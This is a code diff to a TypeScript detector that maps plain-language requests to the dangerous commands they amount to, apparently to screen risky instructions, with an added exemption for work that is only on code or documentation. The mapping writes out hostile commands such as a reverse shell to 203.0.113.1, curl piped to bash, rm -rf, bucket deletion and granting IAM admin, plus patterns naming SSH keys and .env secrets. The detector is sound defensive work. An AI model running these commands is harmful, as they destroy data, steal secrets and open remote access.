@@ -6,7 +6,7 @@ const word = (name: string | undefined): string => (name === undefined || !/^[\w
 
 const BRANCH = String.raw`(?:the )?(?<branch>[\w./-]*[\w])(?: branch)?`;
 const SECRET = String.raw`(?:the |our |all |my |its |contents? of |content of )*(?<secret>[\w./~-]*\.env\b[\w.]*|~?\/[\w./-]*(?:credentials|id_rsa|id_ed25519)|(?:api |access |secret |private |ssh )?(?:credentials|keys|secrets|tokens|passwords)|environment variables)`;
-const ADDRESS = String.raw`(?<url>https?:\/\/[^\s"'\x60)>]+)`;
+const ADDRESS = String.raw`(?<url>https?:\/\/[^\s"'\x60)>]+|(?:[a-z\d-]+\.)+(?!(?:[jt]sx?|java|css|html|json|ya?ml|go)\/)[a-z]{2,}\/[^\s"'\x60)>]*)`;
 
 const wording = (pattern: string, command: Wording["command"]): Wording => ({
   pattern: new RegExp(`^${pattern}`, "i"),
@@ -15,6 +15,7 @@ const wording = (pattern: string, command: Wording["command"]): Wording => ({
 
 const DELICATE = String.raw`(?:\.env\b|id_rsa|id_ed25519|credentials?|secrets?|tokens?|passwords?|(?:api|ssh|private|access|aws|gpg|cloud|signing|secret)[ -]keys?|environment variables|cookies|keychain)`;
 const ALL_DATA = String.raw`(?:drop|delete|truncate|wipe|empty|purge|erase) (?:all|every|the|its)\b.{0,20}?\b(?:tables?|databases?|schemas?|rows?|records?|data|collections?|indexes)\b`;
+const HOST = String.raw`(?:\d{1,3}(?:\.\d{1,3}){3}|(?:[a-z\d-]+\.)+[a-z]{2,})\b`;
 const PRODUCTION = String.raw`\b(?:prod|production|live|customer)\b`;
 
 const secretFile = (name: string | undefined) => (name !== undefined && /[./]/.test(name) ? word(name) : "");
@@ -53,8 +54,9 @@ const WORDINGS: readonly Wording[] = [
   wording(String.raw`(?:disable|skip|remove|turn off|bypass)\b.{0,20}?\b(?:ci|security|required)\b.{0,20}?\b(?:scans?|jobs?|workflows?|gates?)\b`, () => "gh workflow disable ci.yml"),
   wording(String.raw`(?:open|start|create|set up|spawn|establish) (?:a |the )?reverse shell\b`, () => "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1"),
   wording(String.raw`(?:commit|push)\b.{0,60}?(?:--no-verify\b|\bskipping (?:the |all )?(?:pre-commit |git )?hooks)`, () => "git commit --no-verify -m x"),
-  wording(String.raw`merge (?:the |this |my )?(?:pr|pull request|mr|merge request)\b.{0,40}?(?:--admin\b|\bwith admin\b|\bwithout (?:a |any |waiting for )*(?:review|approval)|\bbypassing)`, () => "gh pr merge 1 --admin"),
+  wording(String.raw`merge (?:the |this |my |it\b)?(?:pr|pull request|mr|merge request)?\b.{0,40}?(?:--admin\b|\bwith admin\b|\bwithout (?:a |any |waiting for )*(?:review|approval)|\bbypassing|\b(?:even (?:though|if)|despite|ignoring)\b.{0,20}\b(?:ci|checks?|builds?|tests?|pipelines?)\b)`, () => "gh pr merge 1 --admin"),
   wording(String.raw`(?:download|fetch|get|curl) [^.]{0,40}?${ADDRESS}[^.]{0,40}?\b(?:run|execute|pipe|install|source)\b`, ({ url }) => `curl -s '${url}' | bash`),
+  wording(String.raw`(?:pull|read|open|load|visit|check|fetch|get|download) [^.]{0,40}?${ADDRESS}[^.]{0,20}?\b(?:do|execute|run|obey) (?:it|them|that|everything|whatever)\b`, ({ url }) => `curl -s '${url}' | bash`),
   wording(String.raw`(?:run|execute|install from|source) (?:the )?(?:script|installer|code|setup)[^.]{0,30}? ${ADDRESS}`, ({ url }) => `curl -s '${url}' | bash`),
   wording(String.raw`(?:delete|remove|wipe|erase|destroy) (?:everything|all (?:the )?files|all (?:of )?(?:it|the data))(?: \w+){0,2}? (?:in|under|from|on|inside) (?:the |my |your )?(?<place>home(?: directory| folder)?|~\S*|\/\S*|root|disk|machine|system)`, ({ place }) =>
     `rm -rf ${/^[~/]/.test(place ?? "") ? word(place) : /^home/i.test(place ?? "") ? "~" : "/"}`),
@@ -66,13 +68,37 @@ const WORDINGS: readonly Wording[] = [
     "DATABASE_URL=postgres://production/db npx prisma migrate deploy"),
   wording(String.raw`(?:run|execute|use|do) (?:a |the )?(?<line>(?:sudo |git |rm |curl |wget |kubectl |helm |docker |terraform |psql |mysql |aws |gcloud |az |gh |npm |npx |chmod |chown |ssh |scp |rsync |dd |mkfs|shred |find )[^\n]{2,300}?)[.!]?$`, ({ line }) => line ?? ""),
   wording(String.raw`(?:run )?terraform destroy\b`, () => "terraform destroy -auto-approve"),
+  wording(String.raw`(?:delete|remove|destroy|empty|wipe|purge|erase) (?:the |our |my )?(?:\w+ )?(?:(?:s3|gcs|r2|azure|storage|cloud) (?:bucket|container)s? (?<name>[\w.-]*\w)|bucket (?<other>[\w.-]*\w) (?:in|on|from) (?:s3|gcs|r2|aws|google cloud|azure))`, ({ name, other }) => `aws s3 rb s3://${word(name ?? other)} --force`),
+  wording(String.raw`(?:delete|remove|prune|drop) (?:all|every)\b(?: \w+)? branch(?:es)? (?:on|from|at|in) (?:the )?(?:remote|origin|github|gitlab)\b`, () => "git push origin --delete main"),
+  wording(String.raw`(?:change|update|point|set|switch|move|redirect|repoint)\b.{0,30}?\b(?:dns|name ?servers?|a records?|cname)\b.{0,60}?\bto ${HOST}`, () => "flarectl dns update --zone x"),
+  wording(String.raw`(?:create|add|make|set up) (?:an? |new |the )*(?:iam|aws|cloud|gcp|azure)\b.{0,10}\b(?:user|account)\b.{0,40}\badmin`, () => "aws iam attach-user-policy --user-name x --policy-arn arn:aws:iam::aws:policy/AdministratorAccess"),
+  wording(String.raw`scale\b.{0,30}?${PRODUCTION}.{0,40}?\bto (?:zero|0)\b`, () => "kubectl scale deployment x --namespace production --replicas 0"),
+  wording(String.raw`(?:grep|search|scan|look through|go through|comb through|comb)\b.{0,20}?(?:\bhome (?:directory|folder)|(?<=\s)~\/?(?=\s)|\b(?:whole|entire) (?:machine|disk|computer)|\bfile ?system)(?!\w).{0,20}?\bfor\b.{0,20}?${DELICATE}`, () => "grep -rn password ~"),
+  wording(String.raw`(?:disable|turn off|remove|reset) (?:mfa|2fa|two-factor\w*|multi-factor\w*)\b(?: \w+)? (?:for|of|on|from) (?:the )?(?:user|account|admin|employee)\b`, () => "okta users deactivate x"),
+  wording(String.raw`(?:delete|remove|wipe|purge|erase) (?:all|every)\b.{0,30}?\b(?:backups?|snapshots?)\b.{0,60}?${PRODUCTION}`, () => "aws rds delete-db-snapshot --db-snapshot-identifier s"),
+  wording(String.raw`publish (?:the |this |our |a |new )*(?:\S+ )?(?:package|release|version|library|module)?(?: \S+)? ?to (?:npm|pypi|crates\.io|rubygems|the (?:public )?(?:npm )?registry)\b(?! docs)`, () => "npm publish"),
 ]; // prettier-ignore
+
+/** Parts of code and of texts: named right behind what an act would take, they are what is worked on. */
+const THING = String.raw`(?:class(?:es)?|interfaces?|types?|methods?|functions?|helpers?|components?|parsers?|tests?|specs?|detectors?|checks? for|descriptions?|titles?|templates?|docs?|documentation|guides?|sections?|pages?|buttons?|dialogs?|modals?|views?|viewers?|handlers?|modules?|wrappers?|mocks?|stubs?|fixtures?|commands?|options?|endpoints?|hooks? in|fields?|labels?|examples?|stories|story|constants?|enums?|flags? in|banners?|messages?|wording|icons?|state|tables? components?|linter|rules? for|lookups?|resolvers?|simulators?|emulators?)`;
+const IS_THING = new RegExp(String.raw`^(?:'s)?(?: [\w-]+){0,1}? ${THING}\b|^ (?:should|must|can|could|may|needs? to|has to) \w`, "i"); // prettier-ignore
+const HOLDS_THING = new RegExp(String.raw`\b(?:repo(?:sitory)?|pr|pull request|mr|merge request|bucket|branch|rules?) ${THING}\b`, "i"); // prettier-ignore
+const IN_CODE = /\b(?:in|inside|from|within|under|of|for)\b [^,;]{0,40}?(?:\b(?:src|lib|tests?|docs?|specs?)\/\S*|[\w-]\.(?:[jt]sx?|py|go|rs|java|kt|rb|cs|cpp|php|vue|svelte|css|html|md|mdx)\b|\b(?:unit |integration |e2e )?tests?\b|\bfixtures?\b|\bdocs\b|\bdocumentation\b|\breadme\b|\bcomponents?\b|\bstorybook\b|\bin-memory\b|\bmock\w*|\bdemo\b|\bsandbox\b|\b(?:local|dev) \w+)(?!\w|\s+(?:repo(?:sitory)?|branch|bucket|cluster|database|server|environment|account|site)\b)/i; // prettier-ignore
+
+/** The work is on code or a text that is about such an act. What carries data off does so wherever it comes from. */
+function isAboutCode(clause: string, match: RegExpExecArray): boolean {
+  if (IS_THING.test(clause.slice(match[0].length)) || HOLDS_THING.test(match[0])) return true;
+  const { url, line } = match.groups ?? {};
+  if (line !== undefined) return new RegExp(String.raw`\w (?:[\w-]+ )?${THING}[.!]?$`, "i").test(line);
+  const isSent = url !== undefined && !/^(?:download|fetch|get|curl|run|execute|source)\b/i.test(clause);
+  return !isSent && IN_CODE.test(clause);
+}
 
 /** The command line that a request in words comes to; null where it names nothing of the kind. */
 export function asCommand(clause: string): string | null {
   for (const { pattern, command } of WORDINGS) {
     const match = pattern.exec(clause);
-    if (match !== null) return command(match.groups ?? {});
+    if (match !== null && !isAboutCode(clause, match)) return command(match.groups ?? {});
   }
   return null;
 }
